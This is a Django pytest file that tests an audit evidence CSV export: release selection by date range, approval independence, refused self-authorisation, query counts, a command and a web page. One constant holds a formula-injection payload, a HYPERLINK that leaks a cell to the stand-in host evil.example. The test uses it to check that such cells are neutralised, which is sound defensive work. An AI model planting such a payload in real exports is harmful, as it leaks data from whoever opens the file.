"""The audit evidence export (audit.export): which releases a date
range selects, the rows each release gives, the computed independence of
approvals, CSV-injection safety, the query count, the management command and
the page of the browser UI."""
from __future__ import annotations

import csv
import io
from datetime import timedelta
from functools import partial
from unittest import mock

import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from cmdb.models import ConfigurationItem
from changes.services import rfc_create, rfc_transition
from releasemgmt.workflow import TransitionError
from audit import export as ax
from audit.forms import EvidenceRangeForm
from releases import services as s
from releases.models import (
    CabVote,
    Deployment,
    GoNoGoDecision,
    RefusedAttempt,
    TestResult,
    TransitionLog,
)
from releases.scenario import Walker, new_release
from tests.helpers import built_once, create_user, make_actors, make_cis
from tests.signatures import signature

pytestmark = pytest.mark.django_db

INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def export(start=None, end=None) -> list[dict]:
    """The export parsed back as an auditor's tool would read it."""
    today = timezone.now().date()
    form = EvidenceRangeForm({"from": str(start or today - timedelta(days=1)), "to": str(end or today)})
    assert form.is_valid(), form.errors
    text = "".join(ax.evidence_csv(*form.bounds()))
    assert text.startswith(ax.BOM)
    reader = csv.DictReader(io.StringIO(text[len(ax.BOM):]))
    assert tuple(reader.fieldnames) == ax.COLUMNS
    return list(reader)


def of(rows, number=None, evidence_type=None):
    return [r for r in rows if (number is None or r["release_number"] == number)
            and (evidence_type is None or r["evidence_type"] == evidence_type)]


def history_count(release) -> int:
    rfc_ids = list(release.rfcs.values_list("pk", flat=True))
    return (TransitionLog.objects.filter(content_type__model="release", object_id=release.pk).count()
            + TransitionLog.objects.filter(content_type__model="changerequest", object_id__in=rfc_ids).count())


def build_world() -> dict:
    """A closed release, a rolled-back one (its PIR says roll back), and a
    release whose RFC's requester (a change manager too) tried to authorise
    it, titled to tempt a spreadsheet."""
    user = partial(create_user, email="")  # users with no e-mail address
    actors = make_actors(user)
    # but the stakeholder whom step 9's notice is sent to (a communication needs a recipient)
    actors.requester.email = "requester@example.test"
    actors.requester.save(update_fields=["email"])
    cis = make_cis()

    closed = Walker(new_release(actors, cis=cis, title="Payments upgrade"), actors).to("closed")

    rolled = Walker(new_release(actors, cis=cis, title="Search rewrite"), actors)
    rolled.to("in_review")
    rolled.add("reviews", actors.change_manager, outcome="rollback_required", findings="Latency doubled.")
    rolled.start_rollback()
    rolled.to("closed")

    self_approver = user("eager-requester", "change_manager", "stakeholder")
    rfc = rfc_create(by=self_approver, title=INJECTION, description="Please.")
    rfc_transition(rfc_id=rfc.pk, name="assess", by=actors.change_manager)
    with pytest.raises(TransitionError):
        rfc_transition(rfc_id=rfc.pk, name="authorize", by=self_approver)
    rfc_transition(rfc_id=rfc.pk, name="authorize", by=actors.change_manager, signature=signature())
    sod = Walker(new_release(actors, title="-2+3 hotfix", rfcs=[rfc]), actors).to("plan_approved")
    return {"actors": actors, "cis": cis, "closed": closed, "rolled": rolled.release, "sod": sod, "rfc": rfc,
            "self_approver": self_approver}


@pytest.fixture(scope="module")
def world(django_db_setup, django_db_blocker):
    """Built once for the module (walking releases is slow) and rolled back
    after it; each test runs in a savepoint inside it."""
    with built_once(django_db_blocker, build_world) as built:
        yield built


@pytest.fixture(autouse=True)
def _world(world):
    """Every test here sees the world (so none creates its users twice)."""


@pytest.fixture
def actors(world):
    return world["actors"]


@pytest.fixture
def cis(world):
    return world["cis"]


def test_every_cab_vote_is_there_and_independent(world, actors):
    rows = export()
    for release in (world["closed"], world["rolled"], world["sod"]):
        votes = of(rows, release.number, "cab_vote")
        expected = CabVote.objects.filter(release=release).select_related("created_by", "plan")
        assert sorted((r["actor"], r["outcome"]) for r in votes) == sorted(
            (v.created_by.username, v.decision) for v in expected)
        assert votes and {r["independent"] for r in votes} == {"yes"}
        assert all(r["detail"].startswith(f"plan v{release.approved_plan.version} (the version approved)")
                   for r in votes)
        assert {r["actor_roles"] for r in votes} == {"cab_member"}
        (decision,) = of(rows, release.number, "cab_decision")
        assert (decision["action"], decision["to_state"], decision["independent"]) == (
            "approve_plan", "plan_approved", "yes")


def test_history_rows_are_the_transition_log_of_the_release_and_its_rfcs(world):
    rows = export()
    for release in (world["closed"], world["rolled"], world["sod"]):
        assert len(of(rows, release.number, "transition")) == history_count(release)
    closed = of(rows, world["closed"].number, "transition")
    release_moves = [r["action"] for r in closed if r["subject"] == world["closed"].number]
    assert release_moves[0] == "start_planning" and release_moves[-1] == "close"
    rfc_moves = [r["action"] for r in closed if r["subject"].startswith("RFC-")]
    assert rfc_moves == ["assess", "authorize", "schedule", "implement", "review", "close"]
    # Each release's story is in time order.
    stamps = [r["at"] for r in of(rows, world["closed"].number)]
    assert stamps == sorted(stamps)


def test_go_tests_deployment_and_pir_rows(world, actors):
    rows = export()
    release = world["closed"]
    (go,) = of(rows, release.number, "go_no_go")
    decision = GoNoGoDecision.objects.get(release=release)
    assert (go["actor"], go["outcome"]) == (decision.created_by.username, "go")
    assert go["actor"] != go["release_manager"] == actors.release_manager.username
    assert go["independent"] == "yes" and go["actor_roles"] == "delivery_manager"

    tests = of(rows, release.number, "test_result")
    assert len(tests) == TestResult.objects.filter(release=release).count() == 2
    assert {(r["action"], r["outcome"], r["actor"], r["independent"]) for r in tests} == {
        ("test: Smoke test", "passed", "tester", "yes"), ("test: Regression suite", "passed", "tester", "yes")}

    deployment = Deployment.objects.get(release=release)
    started, completed = of(rows, release.number, "deployment")
    assert (started["action"], started["actor"]) == ("start_deployment", deployment.created_by.username)
    assert (completed["action"], completed["actor"], completed["outcome"]) == (
        "complete_deployment", "deployer", "completed")

    (pir,) = of(rows, release.number, "pir")
    assert (pir["outcome"], pir["actor"], pir["independent"]) == ("success", "cm", "yes")
    (pir,) = of(rows, world["rolled"].number, "pir")
    assert (pir["outcome"], pir["detail"]) == ("rollback_required", "Latency doubled.")
    assert [r["actor"] for r in of(rows, world["rolled"].number, "rollback_advice")] == ["dm"]
    rolled_moves = [r["action"] for r in of(rows, world["rolled"].number, "transition")]
    assert {"rollback", "complete_rollback", "fail"} <= set(rolled_moves)


def test_rfc_authorisation_and_the_refused_self_authorisation(world, actors):
    rows = export()
    number, rfc = world["sod"].number, world["rfc"]
    (auth,) = of(rows, number, "rfc_authorisation")
    assert (auth["subject"], auth["actor"], auth["action"], auth["independent"]) == (
        rfc.number, "cm", "authorize", "yes")
    assert auth["requesters"] == "eager-requester"
    (refused,) = of(rows, number, "refused_attempt")
    attempt = RefusedAttempt.objects.get(object_id=rfc.pk, content_type__model="changerequest")
    assert (refused["actor"], refused["action"], refused["outcome"], refused["subject"]) == (
        "eager-requester", "authorize", "segregation_of_duties", rfc.number)
    assert refused["detail"] == attempt.detail
    assert refused["actor_roles"] == "change_manager stakeholder"


def test_independence_is_computed_not_assumed(actors, make_user):
    # The process lets someone holding both roles authorise an RFC and then
    # manage the release that implements it; the export must say so.
    both = make_user("change_manager", "release_manager", username="two-hats")
    rfc = rfc_create(by=actors.requester, title="Self-managed change", description="d")
    rfc_transition(rfc_id=rfc.pk, name="assess", by=both)
    rfc_transition(rfc_id=rfc.pk, name="authorize", by=both, signature=signature())
    release = s.release_create(by=both, title="Two hats", release_type="minor", rfcs=[rfc])
    (auth,) = of(export(), release.number, "rfc_authorisation")
    assert (auth["actor"], auth["release_manager"], auth["independent"]) == ("two-hats", "two-hats", "no")


def test_a_release_less_rfc_is_exported_with_its_trail(actors):
    rfc = rfc_create(by=actors.requester, title="Never released", description="d")
    rfc_transition(rfc_id=rfc.pk, name="reject", by=actors.change_manager, reason="Out of scope.",
                   signature=signature())
    rows = [r for r in export() if r["rfc_numbers"] == rfc.number]
    assert {r["release_number"] for r in rows} == {""}
    (decision,) = [r for r in rows if r["evidence_type"] == "rfc_authorisation"]
    assert (decision["action"], decision["to_state"], decision["detail"], decision["independent"]) == (
        "reject", "rejected", "Out of scope.", "yes")


def test_cells_that_would_be_formulas_are_neutralised(world):
    rows = export()
    sod = of(rows, world["sod"].number)
    assert {r["release_title"] for r in sod} == {"'-2+3 hotfix"}
    rfc_rows = [r for r in sod if r["subject"] == world["rfc"].number]
    assert rfc_rows and {r["subject_title"] for r in rfc_rows} == {"'" + INJECTION}
    assert not [cell for r in rows for cell in r.values() if cell and cell[0] in "=+-@\t\r"]
    for raw in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "＝1"):
        assert ax.neutralise(raw) == "'" + raw
    assert ax.neutralise("plain - text") == "plain - text" and ax.neutralise(None) == ""


def test_the_range_selects_releases_by_creation_or_activity_and_keeps_their_whole_story(actors):
    past = timezone.now() - timedelta(days=60)
    with mock.patch("django.utils.timezone.now", return_value=past):
        dormant = new_release(actors, title="Dormant")
        s.release_transition(release_id=dormant.pk, name="start_planning", by=actors.release_manager)
        revived = new_release(actors, title="Revived")
    s.release_transition(release_id=revived.pk, name="start_planning", by=actors.release_manager)
    fresh = new_release(actors, title="Fresh")

    then = export(past.date(), past.date())
    assert {r["release_number"] for r in then} - {""} == {dormant.number, revived.number}
    # Activity after the range is still part of Revived's story.
    assert [r["action"] for r in of(then, revived.number, "transition") if r["subject"] == revived.number] == [
        "start_planning"]

    now = {r["release_number"] for r in export()}
    assert {revived.number, fresh.number} <= now and dormant.number not in now
    now = export()
    assert of(now, revived.number, "rfc_authorisation")  # its RFC was authorised 60 days ago: still there
    assert export(past.date() - timedelta(days=10), past.date() - timedelta(days=1)) == []


@pytest.mark.parametrize("data, field", [
    ({}, "from"), ({"from": "2026-01-01"}, "to"), ({"from": "2026-02-30", "to": "2026-03-01"}, "from"),
    ({"from": "2026-1-1", "to": "2026-03-01"}, "from"), ({"from": "01/02/2026", "to": "2026-03-01"}, "from"),
    ({"from": "2026-03-02", "to": "2026-03-01"}, "to"), ({"from": "2020-01-01", "to": "2025-01-04"}, "to"),
])
def test_bad_ranges_are_refused_with_the_reason(data, field):
    form = EvidenceRangeForm(data)
    assert not form.is_valid() and field in form.errors


def test_the_last_representable_day_is_a_valid_range():
    form = EvidenceRangeForm({"from": "9999-12-01", "to": "9999-12-31"})
    assert form.is_valid()
    start, end = form.bounds()
    assert start < end and end.year == 9999
    assert "".join(ax.evidence_csv(start, end)).count("\n") == 1  # the header only


def test_the_query_count_does_not_grow_with_the_number_of_releases(actors, cis):
    today = timezone.now().date()

    def count():
        with CaptureQueriesContext(connection) as ctx:
            rows = list(ax.evidence_rows(*ax_bounds(today)))
        return len(ctx.captured_queries), len(rows)

    small, small_rows = count()
    for n in range(3):
        ci = ConfigurationItem.objects.create(name=f"svc-{n}", ci_type="application", version="1.0")
        Walker(new_release(actors, cis=[ci], title=f"More {n}"), actors).to("testing")
    rfc = rfc_create(by=actors.requester, title="Pending", description="d")
    rfc_transition(rfc_id=rfc.pk, name="assess", by=actors.change_manager)
    large, large_rows = count()
    assert large_rows > small_rows + 30
    # Selection (2) + one round of 16 for the releases; with the release-less RFC, one more round
    # that skips the release queries (no release ids, so Django sends no query): its RFCs, their
    # signatures, their history, their refusals, their evidence files and the users.
    assert small == 2 + 16
    assert large == small + 6


def ax_bounds(day):
    form = EvidenceRangeForm({"from": str(day - timedelta(days=1)), "to": str(day)})
    assert form.is_valid()
    return form.bounds()


# --- the management command -----------------------------------------------------------------


def test_the_command_writes_the_same_csv_to_a_file(world, tmp_path):
    today = timezone.now().date()
    out = tmp_path / "evidence.csv"
    call_command("export_audit_evidence", "--from", str(today - timedelta(days=1)), "--to", str(today),
                 "--output", str(out))
    text = out.read_bytes().decode("utf-8")
    assert text == "".join(ax.evidence_csv(*ax_bounds(today)))
    assert world["closed"].number in text


def test_the_command_writes_to_stdout_without_a_file(world):
    today = timezone.now().date()
    buffer = io.StringIO()
    call_command("export_audit_evidence", "--from", str(today), "--to", str(today), stdout=buffer)
    rows = list(csv.DictReader(io.StringIO(buffer.getvalue().lstrip(ax.BOM))))
    assert len(of(rows, world["closed"].number, "transition")) == history_count(world["closed"])


@pytest.mark.parametrize("args", [["--from", "2026-03-02", "--to", "2026-03-01"],
                                  ["--from", "nonsense", "--to", "2026-03-01"],
                                  ["--from", "2001-01-01", "--to", "2026-03-01"]])
def test_the_command_refuses_bad_input_and_writes_nothing(args, tmp_path):
    out = tmp_path / "evidence.csv"
    with pytest.raises(CommandError):
        call_command("export_audit_evidence", *args, "--output", str(out))
    assert not out.exists() and not list(tmp_path.iterdir())


# --- the browser UI ---------------------------------------------------------------------------


def test_the_page_offers_the_form_to_managers_only(client, actors, make_user):
    url = reverse("releases:audit_export")
    client.force_login(actors.release_manager)
    page = client.get(url)
    assert page.status_code == 200
    assert b'name="from"' in page.content and b'name="to"' in page.content
    assert url.encode() in client.get(reverse("releases:list")).content  # the nav link
    for user in (actors.requester, actors.cab_members[0], make_user("vendor")):
        client.force_login(user)
        assert client.get(url).status_code == 403
        assert url.encode() not in client.get(reverse("dashboard")).content
    client.logout()
    assert client.get(url).status_code == 302  # to the login page


def test_the_page_downloads_the_csv(client, world, actors):
    today = timezone.now().date()
    client.force_login(actors.change_manager)
    response = client.get(reverse("releases:audit_export"), {"from": str(today), "to": str(today)})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert f'filename="audit-evidence_{today}_{today}.csv"' in response["Content-Disposition"]
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text == "".join(ax.evidence_csv(*ax_bounds_day(today)))


def ax_bounds_day(day):
    form = EvidenceRangeForm({"from": str(day), "to": str(day)})
    assert form.is_valid()
    return form.bounds()


def test_the_page_shows_why_a_range_is_refused(client, actors):
    client.force_login(actors.release_manager)
    response = client.get(reverse("releases:audit_export"), {"from": "2026-03-02", "to": "2026-03-01"})
    assert response.status_code == 400
    assert b"must not be before the first day" in response.content
    assert "Content-Disposition" not in response
